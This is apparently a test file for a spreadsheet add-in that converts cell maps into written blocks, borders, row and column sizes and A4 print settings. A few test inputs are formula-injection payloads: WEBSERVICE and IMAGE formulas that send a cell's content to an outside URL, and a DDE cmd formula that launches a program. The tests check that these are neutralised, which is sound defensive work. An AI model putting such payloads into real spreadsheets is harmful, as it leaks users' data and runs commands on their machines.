import { drawingOf } from '#addin/sheet/form/drawing.ts';
import { mostCells, type CellMap } from '#policy/form/cell-map.ts';

const bare: CellMap = { sheet: '表', cells: [], looks: [], merges: [], rows: [], columns: [], names: [], tables: [] };
const line = { style: 'Continuous', weight: 'Thin', color: '#000000' };

describe('cells', () => {
  test.each(['=WEBSERVICE("https://example.com/?"&A1)', '=IMAGE("https://example.com/?"&A1)', "=cmd|'/C calc'!A0"])(
    'the formula %s, which would tell somebody else what stands here, is drawn as what it showed',
    (formula) => {
      const { blocks } = drawingOf({ ...bare, cells: [{ row: 1, column: 1, text: '=甲', formula }] });
      expect(blocks[0]?.formulas).toEqual([["'=甲"]]);
    },
  );

  test('are written as one block from the first to the last, what is not there is left as it is', () => {
    const { blocks } = drawingOf({
      ...bare,
      looks: [{ format: '#,##0.00', isBold: true }],
      cells: [
        { row: 2, column: 2, text: '甲' },
        { row: 3, column: 3, text: '1,234.50', number: 1234.5, look: 0 },
      ],
    });

    expect(blocks).toEqual([
      {
        address: 'B2:C3',
        formulas: [
          ['甲', null],
          [null, 1234.5],
        ],
        numberFormat: [
          [null, null],
          [null, '#,##0.00'],
        ],
        looks: [
          [{}, {}],
          [{}, { format: { font: { bold: true } } }],
        ],
      },
    ]);
  });

  test.each([
    [{ text: '007' }, "'007"],
    [{ text: '=1+1' }, "'=1+1"],
    [{ text: '3', number: 3, formula: '=1+2' }, '=1+2'],
    [{ text: '3', number: 3, formula: "='[a.xlsx]S'!A1" }, 3],
    [{ text: '旧', formula: "=cmd|' /c calc'!A0" }, '旧'],
    [{ text: '2', number: 2, formula: '=SUM(Table1[数量])' }, '=SUM(Table1[数量])'],
    [{ text: '' }, null],
  ])('that say %j are written as %j', (content, written) => {
    const { blocks } = drawingOf({ ...bare, cells: [{ row: 1, column: 1, ...content }] });

    expect(blocks[0]?.formulas).toEqual([[written]]);
  });

  test('in cells for texts are written as they are', () => {
    const cells = [{ row: 1, column: 1, text: '007', look: 0 }];

    expect(drawingOf({ ...bare, looks: [{ format: '@' }], cells }).blocks[0]?.formulas).toEqual([['007']]);
  });

  test('that are too many for one trip are cut into blocks of whole rows, none is lost', () => {
    const cells = Array.from({ length: 400 }, (_, i) => ({ row: i + 1, column: 1, text: '长'.repeat(5_000) }));

    const { blocks } = drawingOf({ ...bare, cells });

    expect(blocks.length).toBeGreaterThan(1);
    expect(blocks.flatMap(({ formulas }) => formulas)).toHaveLength(400);
    for (const { formulas } of blocks) expect(Buffer.byteLength(JSON.stringify(formulas))).toBeLessThan(4_000_000);
  });

  test('spread over more than a form may have are refused', () => {
    const cells = [1, mostCells].map((row) => ({ row, column: row === 1 ? 1 : 3, text: '远' }));

    expect(() => drawingOf({ ...bare, cells })).toThrow('too much on this sheet');
  });
});

test('a merged area’s cells have its lines along its own edge only, and those are drawn once more after merging', () => {
  const { blocks, merges, frames } = drawingOf({
    ...bare,
    looks: [{ top: 'thin', right: 'thin', bottom: 'thin', left: 'thin', isWrapped: true }],
    cells: [{ row: 1, column: 1, text: '甲', look: 0 }],
    merges: [{ top: 1, left: 1, bottom: 2, right: 3 }],
  });

  const sides = (blocks[0]?.looks ?? []).map((row) =>
    row.map(({ format }) => [Object.keys(format?.borders ?? {}).join(), format?.wrapText]),
  );
  expect(sides).toEqual([
    [
      ['top,left', true],
      ['top', true],
      ['top,right', true],
    ],
    [
      ['bottom,left', true],
      ['bottom', true],
      ['right,bottom', true],
    ],
  ]);
  expect(merges).toEqual(['A1:C2']);
  expect(frames).toEqual([{ areas: 'A1:C2', borders: { top: line, right: line, bottom: line, left: line } }]);
});

test('rows and columns of one size are told together; hidden ones and those with looks too', () => {
  const { rows, columns } = drawingOf({
    ...bare,
    looks: [{ fill: '#FFF2CC', format: '@' }],
    rows: [
      { at: 1, size: 20 },
      { at: 2, size: 20 },
      { at: 5, size: 20 },
      { at: 7, isHidden: true },
      { at: 8, isHidden: true, size: 30 },
    ],
    columns: [
      { at: 2, size: 10 },
      { at: 3, size: 10, look: 0 },
    ],
  });

  expect(rows).toEqual([
    { addresses: ['1:2,5:5'], size: 20 },
    { addresses: ['8:8'], size: 30 },
    { addresses: ['7:8'], isHidden: true },
  ]);
  expect(columns).toEqual([
    { addresses: ['C:C'], look: { fill: { color: '#FFF2CC' } }, numberFormat: '@' },
    { addresses: ['B:C'], size: 52.5 },
  ]);
});

describe('on A4', () => {
  const wide = (characters: number, height: number): CellMap => ({
    ...bare,
    columns: [
      { at: 1, size: characters / 2 },
      { at: 2, size: 200, isHidden: true },
      { at: 3, size: characters / 2 },
    ],
    rows: [
      { at: 1, size: height / 2 },
      { at: 2, isHidden: true },
      { at: 3, size: height / 2 },
    ],
    printArea: { top: 1, left: 1, bottom: 3, right: 3 },
  });

  test.each([
    ['a narrow form stands', 90, 400, { orientation: 'Portrait', pagesHigh: 0 }],
    ['a broad one lies', 140, 400, { orientation: 'Landscape', pagesHigh: 0 }],
    ['one a little higher than a page is made to fit', 90, 800, { orientation: 'Portrait', pagesHigh: 1 }],
    ['one much higher takes another page', 90, 950, { orientation: 'Portrait', pagesHigh: 0 }],
    [
      'one a little higher than two pages is made to fit on two',
      90,
      760 * 2 + 40,
      { orientation: 'Portrait', pagesHigh: 2 },
    ],
    ['a broad one is made smaller before its pages are counted', 130, 860, { orientation: 'Portrait', pagesHigh: 0 }],
  ])('%s', (_, characters, height, expected) => {
    expect(drawingOf(wide(characters, height)).paper).toMatchObject({ ...expected, area: 'A1:C3' });
  });

  test('a form without a print area is measured by its cells', () => {
    const cells = [{ row: 60, column: 4, text: '末' }];

    expect(drawingOf({ ...bare, cells }).paper).toEqual({
      area: undefined,
      orientation: 'Portrait',
      margin: 42,
      pagesHigh: 0,
    });
    expect(drawingOf(bare).paper).toMatchObject({ orientation: 'Portrait', pagesHigh: 0 });
  });
});

test('names are told with the cells they stand for', () => {
  const names = [{ name: '签订日期', area: { top: 3, left: 7, bottom: 3, right: 8 } }];

  expect(drawingOf({ ...bare, names }).names).toEqual([{ name: '签订日期', address: 'G3:H3' }]);
});
